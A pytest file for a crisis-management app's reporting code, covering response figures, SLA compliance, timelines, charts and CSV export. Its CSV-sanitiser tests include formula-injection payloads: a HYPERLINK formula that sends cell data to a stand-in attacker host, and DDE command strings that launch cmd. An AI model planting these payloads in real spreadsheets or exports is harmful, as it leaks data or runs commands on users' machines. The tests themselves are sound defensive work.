"""The crisis report's figures, computed from a scripted crisis whose answers are known."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from crisis import report
from crisis.models import CellRole
from crisis.report_csv import report_csv, safe_cell
from crisis.selectors import crisis_report
from crisis.services import cell
from inbox import selectors as inbox_selectors
from tests.crisis.report_fixtures import (
    CLOSED,
    START,
    at,
    declare,
    minute_counters,
    queue_conversations,
    script_timeline,
)
from tests.factories import ConversationFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def scripted(organization, lead, executive, agent):
    crisis = declare(organization, lead, cell_members=[(lead.pk, CellRole.CRISIS_LEAD),
                                                       (executive.pk, CellRole.EXECUTIVE)])
    script_timeline(crisis, lead=lead, executive=executive, agent=agent)
    minute_counters(organization)
    conversations = queue_conversations(crisis, agent=agent)
    crisis = cell.crisis_close(crisis=crisis, actor=lead, summary="Vols reprogrammés, remboursements lancés.",
                               now=CLOSED)
    return crisis, conversations


def test_the_times_are_seconds_from_the_storms_start_following_the_timeline(scripted):
    crisis, _ = scripted
    figures = crisis_report(crisis=crisis, now=CLOSED)
    assert (figures.detected_s, figures.paged_s, figures.acked_s, figures.declared_s, figures.first_statement_s) == (
        40, 55, 180, 480, 840)
    assert figures.duration_s == 5 * 3600 and figures.is_final
    assert figures.drill_line("sunday-storm") == (
        "drill=sunday-storm detected_s=40 paged_s=55 acked_s=180 declared_s=480 first_statement_s=840 "
        "answered_2h_pct=50")


def test_a_moment_that_did_not_happen_is_none_not_zero(organization, lead, executive, agent):
    crisis = declare(organization, lead)
    script_timeline(crisis, lead=lead, executive=executive, agent=agent, with_statement=False)
    figures = crisis_report(crisis=crisis, now=at(hours=1))
    assert figures.first_statement_s is None and figures.declared_s == 480
    assert "first_statement_s=-" in figures.drill_line("slow-burn")
    assert report.duration_text(None) == "—"


def test_response_times_and_sla_compliance_cover_the_crisis_queue(scripted):
    crisis, _ = scripted
    response = crisis_report(crisis=crisis, now=CLOSED).response
    assert response.scope == "queue"
    # Five queue conversations (the untagged one is left out); three answered in 600, 1800 and 10800 s.
    assert (response.conversations, response.answered) == (5, 3)
    assert response.median_s == 1800
    assert response.p90_s == 9000  # percentile_cont: 1800 + 0.8 x (10800 - 1800)
    # Settled SLA clocks: three answered and one breached unanswered; only the first met its 15 minutes.
    assert (response.sla_met, response.sla_settled, response.sla_met_pct) == (1, 4, 25.0)


def test_answered_within_2_hours_counts_answered_and_overdue_mentions_not_pending_ones(scripted):
    crisis, conversations = scripted
    figures = crisis_report(crisis=crisis, now=CLOSED)
    # Due: fast, late, slow (answered) and never (its 2 hours passed); fresh arrived 20 minutes before now.
    assert (figures.response.answered_2h, figures.response.answer_due) == (2, 4)
    assert figures.answered_2h_pct == 50.0
    later = crisis_report(crisis=crisis, now=CLOSED + timedelta(hours=2))
    assert (later.response.answered_2h, later.response.answer_due) == (2, 5)  # fresh is now overdue


def test_without_a_crisis_queue_the_figures_cover_every_conversation_of_the_period(organization, lead, agent):
    crisis = declare(organization, lead)
    ConversationFactory(organization=organization, created_at=at(minutes=5), last_message_at=at(minutes=5),
                        first_response_at=at(minutes=6))
    response = crisis_report(crisis=crisis, now=at(hours=1)).response
    assert response.scope == "window" and response.conversations == 1 and response.median_s == 60


def test_the_inbox_selector_computes_the_figures_in_one_query(scripted, django_assert_num_queries):
    crisis, _ = scripted
    with django_assert_num_queries(1):
        figures = inbox_selectors.first_response_figures(organization=crisis.organization_id, tag_name=f"crisis-{crisis.pk}",
                                                         since=START, until=CLOSED, now=CLOSED)
    assert figures.answered == 3


def test_who_did_what_from_the_timeline_and_the_replies_sent(scripted, lead, executive, agent):
    crisis, _ = scripted
    people = {p.user_id: p for p in crisis_report(crisis=crisis, now=CLOSED).people}
    assert (people[lead.pk].statements_drafted, people[lead.pk].statements_published) == (1, 2)
    assert people[lead.pk].role == CellRole.CRISIS_LEAD
    assert (people[executive.pk].statements_approved, people[executive.pk].decisions) == (1, 1)
    assert (people[agent.pk].replies_sent, people[agent.pk].tasks_done, people[agent.pk].cluster_replies) == (3, 1, 1)
    assert people[agent.pk].role == ""  # answered the queue without being in the cell
    order = [p.user_id for p in crisis_report(crisis=crisis, now=CLOSED).people]
    assert order.index(agent.pk) == 2  # cell members first


def test_decisions_tasks_and_the_closing(scripted):
    crisis, _ = scripted
    figures = crisis_report(crisis=crisis, now=CLOSED)
    assert [d.text for d in figures.decisions] == ["Rembourser tous les passagers du AD1234"]
    assert figures.decisions[0].offset_s == 20 * 60
    task, = figures.tasks
    assert task.title == "Mettre à jour la FAQ" and task.late  # due at +40 min, done at +45
    assert figures.closed_at == CLOSED and figures.closing_summary == "Vols reprogrammés, remboursements lancés."
    assert figures.timeline[-1].kind == "closed"


def test_the_volume_series_from_the_minute_counters(scripted):
    crisis, _ = scripted
    figures = crisis_report(crisis=crisis, now=CLOSED)
    assert figures.bin_minutes == 5  # 5 h 30 min of chart in at most 180 points
    by_time = {p.at: p for p in figures.series}
    assert by_time[START - timedelta(minutes=30)].mentions == 10
    assert by_time[START].mentions == 500 and by_time[START].negative == 150 and by_time[START].reshares == 2500
    assert by_time[START].negative_pct == 30.0
    assert by_time[at(hours=2)].mentions == 0 and by_time[at(hours=2)].negative_pct is None
    assert figures.total_mentions == 2000 and figures.peak.mentions == 500


def test_an_active_crisis_reports_its_figures_so_far(organization, lead, executive, agent):
    crisis = declare(organization, lead)
    script_timeline(crisis, lead=lead, executive=executive, agent=agent)
    figures = crisis_report(crisis=crisis, now=at(minutes=30))
    assert not figures.is_final and figures.until == at(minutes=30) and figures.first_statement_s == 840
    assert figures.series[-1].at <= at(minutes=30)


# The pure parts.

def test_bins_grow_with_the_crisis_length_and_are_aligned():
    start = datetime(2026, 1, 1, 10, 3, tzinfo=UTC)
    assert report.bin_minutes_for(start, start + timedelta(hours=2)) == 1
    assert report.bin_minutes_for(start, start + timedelta(hours=10)) == 5
    assert report.bin_minutes_for(start, start + timedelta(days=3)) == 30
    assert report.floor_to_bin(start, 5) == start.replace(minute=0)
    assert report.floor_to_bin(start.replace(hour=11), 180) == start.replace(hour=9, minute=0)
    size, points = report.series({start: (3, 1, 0), start + timedelta(minutes=1): (2, 0, 7)}, start,
                                 start + timedelta(hours=10))
    assert size == 5 and points[0].at == start.replace(minute=0) and points[0].mentions == 5
    assert points[0].reshares == 7


def test_durations_read_as_people_say_them():
    assert report.duration_text(45) == "45\u00a0s"
    assert report.duration_text(725) == "12\u00a0min 5\u00a0s"
    assert report.duration_text(3 * 3600 + 20 * 60 + 12) == "3\u00a0h 20\u00a0min"
    assert report.duration_text(2 * 86400) == "2\u00a0d"
    assert report.duration_text(0) == "0\u00a0s"
    assert report.duration_text(-30) == "-30\u00a0s"


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example?\"&A1,\"clic\")", "+cmd|' /C calc'!A0",
                                   "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "\t=1+1", "\r=1+1", "=1+1"])
def test_csv_cells_that_would_run_as_formulas_get_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


def test_csv_keeps_plain_text_and_numbers():
    assert safe_cell("Vol annulé") == "Vol annulé"
    assert safe_cell(-30) == -30 and safe_cell(None) == ""


def test_the_csv_neutralises_what_people_typed_on_the_timeline(scripted, executive):
    crisis, _ = scripted
    cell.event_record(crisis=crisis, kind="decision", actor=executive, at=at(minutes=50),
                      text='=HYPERLINK("http://evil.example","clic")')
    cell.event_record(crisis=crisis, kind="note", actor=executive, at=at(minutes=51), text="+cmd")
    text = report_csv(crisis_report(crisis=crisis, now=CLOSED), kind_label=lambda k, a: k,
                      role_label=lambda r: r, time_text=lambda t: t.isoformat())
    assert "'=HYPERLINK" in text and ",'+cmd" in text
    assert ',=HYPERLINK' not in text and ",+cmd" not in text


def test_the_report_reads_in_a_fixed_number_of_queries(scripted, django_assert_max_num_queries, agent):
    crisis, _ = scripted
    crisis = type(crisis).objects.for_organization(crisis.organization_id).get(pk=crisis.pk)
    for n in range(30):  # more lines on the timeline, more people: no more queries
        cell.event_record(crisis=crisis, kind="note", actor=agent, at=at(minutes=30, seconds=n), text=f"note {n}")
    # Timeline, cell, tasks, people (and their organization), counters, the queue check, figures, replies.
    with django_assert_max_num_queries(9):
        crisis_report(crisis=crisis, now=CLOSED)
